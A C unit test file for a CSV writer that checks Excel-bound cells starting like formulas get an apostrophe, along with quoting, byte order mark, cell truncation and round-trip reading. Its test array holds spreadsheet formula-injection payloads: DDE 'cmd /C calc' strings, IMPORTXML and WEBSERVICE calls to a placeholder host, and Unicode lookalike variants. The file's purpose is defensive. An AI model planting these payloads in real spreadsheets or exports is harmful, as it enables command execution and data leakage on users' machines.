/* SPDX-License-Identifier: Apache-2.0 */
#include "support/check.h"

#include "base/limits.h"
#include "model/csv.h"
#include "report/csv.h"

static const struct csv_style excel = { .excel = true };
static const struct csv_style plain = { .excel = false };

static const char *const payloads[] = {
	"=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://x\",\"y\")", "=IMPORTXML(CONCAT(\"http://x\",A1),\"//a\")",
	"=DDE(\"cmd\";\"/C calc\";\"x\")", "=WEBSERVICE(\"http://x\")", "=1+1\"", "=\"a\"&\"b\"", "=", "==1",
	"+1+1", "+cmd|' /C calc'!A0", "+A1", "-1+1", "-2+3+cmd|' /C calc'!A0", "- item of a list", "-", "--1",
	"@SUM(1+1)", "@SUM(1+9)*cmd|' /C calc'!A0", "@", "\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1", "\t", "\n",
	"\tharmless", " =1+1", "   @SUM(1)", " \t +1", "\x0B=1", "＝1+1", "＋1", "－1", "＠SUM(1)", "　＝1", "　=1",
	"\xC2\xA0=1", "\xEF\xBB\xBF=1", "\xE2\x80\x8B=1", "\xE2\x80\xAE=1", "\xE2\x88\x92" "1", "﹢1", "﹣1", "﹦1", "﹫x",
};

static const char *const harmless[] = {
	"", "a", "1", "a=b", "a-b", "'=1", "（一）", "問題", "\"=1", "*", "# heading", "1. -x", "$A$1", "  text", "é",
};

static void texts_that_run_as_formulas_get_an_apostrophe_for_excel_only(void **state)
{
	(void)state;
	assert_true(sizeof(payloads) / sizeof(payloads[0]) >= 40);
	for (size_t i = 0; i < sizeof(payloads) / sizeof(payloads[0]); i++) {
		struct buf out = BUF_INIT(KIB);

		assert_true(csv_is_formula(str_of(payloads[i])));
		csv_field(&out, str_of(payloads[i]), &excel);
		assert_memory_equal(buf_text(&out), "\"'", 2);
		buf_clear(&out);
		csv_field(&out, str_of(payloads[i]), &plain);
		assert_memory_not_equal(buf_text(&out), "\"'", 2);
		buf_release(&out);
	}
	assert_true(csv_is_formula((struct str){ "\0=1", 3 }));
	for (size_t i = 0; i < sizeof(harmless) / sizeof(harmless[0]); i++)
		assert_false(csv_is_formula(str_of(harmless[i])));
}

static void rows_are_rfc_4180(void **state)
{
	struct buf out = BUF_INIT(KIB);

	(void)state;
	csv_begin(&out, &plain);
	csv_field(&out, STR("id"), &plain);
	csv_field(&out, STR("say \"it\", now"), &plain);
	csv_field(&out, STR(""), &plain);
	csv_end_row(&out);
	csv_number(&out, 3);
	csv_number(&out, -0.125);
	csv_number(&out, -0.0);
	csv_number(&out, 0.0 / 0.0);
	csv_field(&out, STR("two\nlines\n"), &plain);
	csv_field(&out, STR("中文"), &plain);
	csv_end_row(&out);
	assert_string_equal(buf_text(&out), "\"id\",\"say \"\"it\"\", now\",\"\"\r\n"
					    "3,-0.125,0,\"\",\"two\nlines\n\",\"中文\"\r\n");
	buf_release(&out);
}

static void excel_gets_a_byte_order_mark_and_no_separator_after_it(void **state)
{
	struct buf out = BUF_INIT(KIB);

	(void)state;
	csv_begin(&out, &excel);
	csv_field(&out, STR("問題"), &excel);
	csv_field(&out, STR("b"), &excel);
	csv_end_row(&out);
	csv_field(&out, STR("c"), &excel);
	assert_string_equal(buf_text(&out), "\xEF\xBB\xBF\"問題\",\"b\"\r\n\"c\"");
	buf_release(&out);
}

/* Writes n times `piece` as one field and returns its length without the quotation marks. */
static size_t field_length(const char *piece, size_t n, const struct csv_style *style, bool *marked)
{
	struct buf text = BUF_INIT(MIB), out = BUF_INIT(2 * MIB);
	size_t len;

	for (size_t i = 0; i < n; i++)
		buf_add_text(&text, piece);
	csv_field(&out, buf_str(&text), style);
	*marked = str_ends(buf_str(&out), " […]\"");
	assert_true(utf8_valid(buf_str(&out), NULL));
	len = out.len - 2;
	buf_release(&text);
	buf_release(&out);
	return len;
}

static void a_text_longer_than_a_cell_is_cut_with_a_mark_for_excel_only(void **state)
{
	const size_t mark = strlen(" […]");
	bool marked;

	(void)state;
	assert_int_equal(field_length("x", CSV_EXCEL_CELL, &excel, &marked), CSV_EXCEL_CELL);
	assert_false(marked);
	assert_int_equal(field_length("x", CSV_EXCEL_CELL + 1, &excel, &marked), CSV_EXCEL_CELL - 4 + mark);
	assert_true(marked);
	assert_int_equal(field_length("x", CSV_EXCEL_CELL + 1, &plain, &marked), CSV_EXCEL_CELL + 1);
	assert_false(marked);
	assert_int_equal(field_length("中", CSV_EXCEL_CELL, &excel, &marked), 3 * CSV_EXCEL_CELL);
	assert_false(marked);
	assert_int_equal(field_length("中", CSV_EXCEL_CELL + 1, &excel, &marked), 3 * (CSV_EXCEL_CELL - 4) + mark);
	assert_int_equal(field_length("𠮷", 16383, &excel, &marked), 4 * 16383);
	assert_false(marked);
	assert_int_equal(field_length("𠮷", 16384, &excel, &marked), 4 * 16381 + mark);
	assert_true(marked);
	assert_int_equal(field_length("=", CSV_EXCEL_CELL, &excel, &marked), 1 + CSV_EXCEL_CELL - 5 + mark);
	assert_true(marked);
}

static void what_is_written_plainly_is_read_back(void **state)
{
	struct buf out = BUF_INIT(64 * KIB);
	struct csv_reader reader;
	struct csv_record record;

	(void)state;
	for (size_t i = 0; i < sizeof(payloads) / sizeof(payloads[0]); i++) {
		csv_field(&out, str_of(payloads[i]), &plain);
		csv_field(&out, STR("x"), &plain);
		csv_end_row(&out);
	}
	csv_reader_init(&reader, buf_str(&out), ',');
	for (size_t i = 0; i < sizeof(payloads) / sizeof(payloads[0]); i++) {
		assert_true(csv_reader_next(&reader, &record));
		assert_int_equal(record.n, 2);
		assert_true(str_eq_text(record.fields[0], payloads[i]));
	}
	assert_false(csv_reader_next(&reader, &record));
	csv_reader_release(&reader);
	buf_release(&out);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(texts_that_run_as_formulas_get_an_apostrophe_for_excel_only),
		cmocka_unit_test(rows_are_rfc_4180),
		cmocka_unit_test(excel_gets_a_byte_order_mark_and_no_separator_after_it),
		cmocka_unit_test(a_text_longer_than_a_cell_is_cut_with_a_mark_for_excel_only),
		cmocka_unit_test(what_is_written_plainly_is_read_back),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
